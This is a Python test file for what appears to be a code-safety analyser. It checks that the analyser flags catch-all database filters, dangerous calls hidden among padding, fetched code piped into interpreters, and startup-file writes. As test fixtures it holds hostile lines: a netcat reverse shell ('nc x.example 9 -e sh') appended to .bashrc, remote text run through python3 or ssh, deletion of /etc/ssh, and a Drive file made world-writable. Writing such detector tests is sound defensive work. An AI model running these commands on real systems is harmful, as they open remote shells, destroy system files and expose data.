"""What programs ask of services: which conditions every row meets, and that nothing is hidden behind other calls."""

from __future__ import annotations

from typing import Any

import pytest

from aegis.detect.code import analyse_code
from aegis.detect.endpoints import is_everything
from aegis.detect.languages.followed import MAX_VALUES, FollowedValue

_FED = "import requests, subprocess\nt = requests.get('https://x.example/a').text\nsubprocess.run(['{}', '-'], input=t)"


def _effects(code: str, language: str = "python") -> set[str]:
    return {effect.name for effect in analyse_code(code, language).effects}


@pytest.mark.parametrize(
    "condition",
    [
        {},
        {"id": {"gt": 0}},
        {"_id": {"$exists": True}},
        {"id": {"[Op.gte]": 1}},
        {"email": {"not": None}},
        {"$or": [{"status": "open"}, {"id": {"$ne": None}}]},
        {"AND": [{"id": {"gt": 0}}, {"createdAt": {"not": None}}]},
    ],
)
def test_a_condition_that_every_row_meets_selects_everything(condition: dict[str, Any]) -> None:
    assert is_everything(condition)


@pytest.mark.parametrize(
    "condition",
    [
        {"status": {"not": "ACTIVE"}},
        {"id": {"$ne": "u-7"}},
        {"id": {"gt": 4000}},
        {"deletedAt": {"not": None}},
        {"AND": [{"id": {"gt": 0}}, {"status": "closed"}]},
    ],
)
def test_a_condition_that_narrows_does_not(condition: dict[str, Any]) -> None:
    assert not is_everything(condition)


def test_many_harmless_calls_hide_no_request() -> None:
    harmless = "\n".join(f"requests.get(f'https://shop.example/api/{at}')" for at in range(120))
    request = "requests.delete('https://api.github.com/repos/acme/core')"
    assert _effects(f"import requests\n{request}") <= _effects(f"import requests\n{harmless}\n{request}")
    alike = "\n".join(f"client.items.create(body={{'name': 'n{at}'}})" for at in range(120))
    share = "drive.permissions().create(fileId='1', body={'type': 'anyone', 'role': 'writer'})"
    assert _effects(share)
    assert _effects(share) <= _effects(f"{alike}\n{share}\n{alike}")


def test_a_text_inside_a_call_hides_no_request() -> None:
    padding = "a" * 6_000
    assert _effects(f"drive.permissions().create(note='{padding}', body={{'type': 'anyone', 'role': 'writer'}})")


@pytest.mark.parametrize("program", ["python3", "crontab", "ssh", "perl"])
def test_what_was_fetched_is_not_fed_to_what_may_run_it(program: str) -> None:
    assert "code.runs-fetched" in {name for name, _ in analyse_code(_FED.format(program), "python").signals}


def test_what_was_fetched_is_fed_to_a_reader() -> None:
    assert "code.runs-fetched" not in {name for name, _ in analyse_code(_FED.format("jq"), "python").signals}


def test_a_program_goes_from_one_folder_to_another() -> None:
    gone = "import os, shutil\nos.chdir('/')\nos.chdir('etc')\nshutil.rmtree('ssh')"
    assert _effects(gone) == _effects("import shutil\nshutil.rmtree('/etc/ssh')")
    unknown = "import os, shutil, sys\nos.chdir('/etc')\nos.chdir(sys.argv[1])\nshutil.rmtree('cache')"
    assert _effects(unknown) == _effects("import shutil\nshutil.rmtree('cache')")


def test_every_text_that_a_start_file_gets_is_read() -> None:
    begins = "f = open('/home/me/.bashrc', 'a')\nf.write('export EDITOR=vim\\n')\n"
    assert "write startup one" not in _effects(begins)
    assert "write startup one" in _effects(f"{begins}f.write(sys.stdin.read())")
    assert "write startup one" in _effects(f"{begins}f.write('nc x.example 9 -e sh &\\n')")


def nested(depth: int) -> FollowedValue:
    value = FollowedValue(("leaf",))
    for _ in range(depth):
        value = FollowedValue((), (value, value), (("a", value), ("b", value)))
    return value


def test_values_that_hold_each_other_many_times_are_gone_over_once() -> None:
    assert MAX_VALUES < 4**6
    assert nested(60).every == ()
    assert nested(3).every == ("leaf",)


@pytest.mark.parametrize("place", ["a:", "²", "²:", "1", ":"])
def test_a_place_that_is_no_number_is_no_part(place: str) -> None:
    FollowedValue((), (FollowedValue(("x",)),)).part(place, whole_too=False)
